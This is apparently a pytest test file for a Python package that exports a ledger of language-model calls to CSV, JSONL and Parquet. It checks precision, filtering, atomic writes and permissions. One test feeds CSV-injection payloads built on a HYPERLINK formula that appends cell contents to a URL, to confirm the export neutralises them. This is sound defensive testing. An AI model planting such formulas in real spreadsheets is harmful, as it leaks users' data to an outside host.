"""The ledger as a file for other programs."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pandas
import pytest

from llm_magic import history
from llm_magic.config import Workspace
from llm_magic.exceptions import ParameterError
from llm_magic.history import COLUMNS, History
from llm_magic.recordings import now

COST = Decimal("0.000000123456789012345678")


@pytest.fixture
def ledger(tmp_path):
    ledger = History(Workspace(tmp_path))
    ledger.record(started=now(), source="live", cost=COST, stream=True, answer="über\nzwei, drei")
    ledger.record(started=now(), source="live", tag="second", prompt='say "no"', stream=False)
    yield ledger
    ledger.close()


def read_csv(path):
    with Path(path).open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def read_jsonl(path):
    return [json.loads(line) for line in Path(path).read_text("utf-8").splitlines()]


def test_csv_has_all_columns_and_loses_no_cent(ledger):
    assert ledger.to_csv("calls.csv") == 2

    first, second = read_csv("calls.csv")
    assert list(first) == list(COLUMNS)
    assert (Decimal(first["cost"]), first["stream"], first["answer"]) == (
        COST,
        "True",
        "über\nzwei, drei",
    )
    assert (second["cost"], second["stream"], second["prompt"]) == ("", "False", 'say "no"')


def test_json_lines_are_typed_and_lose_no_cent(ledger):
    assert ledger.to_jsonl("calls.jsonl") == 2

    first, second = read_jsonl("calls.jsonl")
    assert list(first) == list(COLUMNS)
    assert (Decimal(first["cost"]), first["stream"], first["answer"]) == (
        COST,
        True,
        "über\nzwei, drei",
    )
    assert (second["cost"], second["stream"]) == (None, False)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＠"])
def test_in_csv_no_text_of_a_model_is_a_formula(start, ledger):
    text = f'{start}HYPERLINK("http://example.org?" & A1)'
    ledger.record(answer=text, tag=text, cell_line="1 + 1 = 2")
    ledger.to_csv("calls.csv")
    ledger.to_jsonl("calls.jsonl")

    written = read_csv("calls.csv")[-1]
    assert (written["answer"], written["tag"]) == (f"'{text}", f"'{text}")
    assert written["cell_line"] == "1 + 1 = 2"
    assert read_jsonl("calls.jsonl")[-1]["answer"] == text


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_filters_pick_the_rows(kind, ledger):
    assert getattr(ledger, f"to_{kind}")(f"calls.{kind}", tag="second") == 1

    assert "second" in Path(f"calls.{kind}").read_text("utf-8")
    assert "über" not in Path(f"calls.{kind}").read_text("utf-8")


def test_the_ending_says_the_format(ledger):
    ledger.export("calls.JSONL")

    assert len(read_jsonl("calls.JSONL")) == 2
    with pytest.raises(
        ParameterError, match=r"calls.cvs: its ending says the format; did you mean csv"
    ):
        ledger.export("calls.cvs")


def test_a_file_is_replaced_at_once_or_not_at_all(ledger, monkeypatch):
    Path("calls.csv").write_text("before")

    class FullDisk:
        def __init__(self, *arguments, **options):
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(csv, "writer", FullDisk)
    with pytest.raises(ParameterError, match=r"calls.csv cannot be written: No space left"):
        ledger.to_csv("calls.csv")

    assert Path("calls.csv").read_text() == "before"
    assert [name for name in os.listdir() if name.startswith(".calls")] == []


def test_a_folder_that_is_not_there_is_one_line(ledger):
    with pytest.raises(ParameterError, match=r"calls.csv cannot be written: No such file"):
        ledger.to_csv("nowhere/calls.csv")


@pytest.mark.skipif(os.name == "nt", reason="has no such modes")
def test_a_file_with_answers_is_readable_for_its_owner_only(ledger):
    ledger.to_csv("calls.csv")

    assert Path("calls.csv").stat().st_mode & 0o777 == 0o600


def test_parquet_without_pyarrow_names_the_extra():
    code = (
        "import sys; sys.modules['pyarrow'] = None\n"
        "import importlib.machinery, importlib.util\n"
        "from llm_magic import history\n"
        "try: history.to_parquet('calls.parquet')\n"
        "except Exception as error: print(type(error).__name__, error)\n"
    )

    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)

    assert done.stdout.startswith("ConfigError Parquet needs pyarrow: pip install")
    assert not Path("calls.parquet").exists()


def test_parquet_has_the_dtypes_of_the_frame(ledger):
    pytest.importorskip("pyarrow")

    ledger.to_parquet("calls.parquet")

    frame = pandas.read_parquet("calls.parquet")
    assert {name: str(dtype) for name, dtype in frame.dtypes.items()} == dict(COLUMNS)
    pandas.testing.assert_frame_equal(frame, ledger.to_pandas())


def test_the_package_writes_the_ledger_of_the_folder(ledger):
    history.default().record(source="live", cost=COST)

    assert history.to_csv("a.csv") == history.to_jsonl("a.jsonl") == history.totals().calls
